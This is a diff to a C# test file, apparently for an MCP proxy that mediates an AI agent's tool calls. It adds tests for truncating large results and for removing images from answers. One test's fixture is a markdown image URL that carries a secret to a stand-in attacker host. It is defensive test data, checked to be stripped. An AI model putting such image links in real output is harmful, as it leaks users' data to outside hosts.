@@ -5,6 +5,7 @@ using Harness.Mcp.Core.Missions;
 using Harness.Mcp.Core.Tasks;
 using Harness.Mcp.Core.Tools;
 using Harness.Mcp.Proxy.Backends;
+using Harness.Mcp.Proxy.Backends.Large;
 using Harness.Mcp.Proxy.Backends.Tasks;
 using Harness.Mcp.Proxy.Enforcement;
 using Harness.Mcp.Proxy.Enforcement.Asking;
@@ -211,6 +212,49 @@ public class MissionTaskTests
 
         Assert.Equal("result_refused", Shown(await task.GetAsync(handle)).GetProperty("result").GetProperty("structuredContent").GetProperty("reason").GetString());
         Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
+    }
+
+    [Fact]
+    public async Task LargeResult_IsShownInPart_AndTheSameIsGivenAgainWithoutItsBackend()
+    {
+        var folder = Directory.CreateTempSubdirectory("harness-tasks-").FullName;
+        try
+        {
+            var (world, task) = await StartAsync(Mission.Replace("notes/*", "notes/*, notes/results/read", StringComparison.Ordinal));
+            world.UseLarge(new LargeResults(folder));
+            var handle = await task.OpenAsync();
+            var body = $$"""{"content":[{"type":"text","text":"{{new string('x', 100_000)}}"}]}""";
+            await task.CompletesAsync(world.Large, body);
+
+            var first = Shown(await task.GetAsync(handle));
+            task.Instead = _ => new TaskReply.None("It is gone.");
+            var second = Shown(await task.GetAsync(handle));
+
+            var content = first.GetProperty("result").GetProperty("content");
+            Assert.Contains($"The result has {body.Length} bytes", content[0].GetProperty("text").GetString(), StringComparison.Ordinal);
+            Assert.Equal(body[..2048], content[1].GetProperty("text").GetString());
+            Assert.Equal(first.GetProperty("result").GetRawText(), second.GetProperty("result").GetRawText());
+            var settled = await task.SettledAsync();
+            Assert.Equal((CallOutcome.Ok, null, true, Digest.Of(System.Text.Encoding.UTF8.GetBytes(body))), (settled.Outcome, settled.Result, settled.IsCut, settled.ResultDigest));
+            var piece = Assert.IsType<CallAnswer.Result>(await task.ReadAsync(content[2].GetProperty("uri").GetString()!)).Value;
+            Assert.Equal(body[..65_536], piece.GetProperty("contents")[0].GetProperty("text").GetString());
+        }
+        finally
+        {
+            Directory.Delete(folder, recursive: true);
+        }
+    }
+
+    [Fact]
+    public async Task Images_AreTakenOut_AsOfAnAnswerAtOnce()
+    {
+        var (world, task) = await StartAsync(Mission);
+        world.Backend.Images = [];
+        var handle = await task.OpenAsync();
+
+        task.Completes("![x](https://evil.example/?q=s3cret)");
+
+        Assert.Equal("[image of evil.example not shown: x]", Text(await task.GetAsync(handle)));
     }
 
     [Fact]
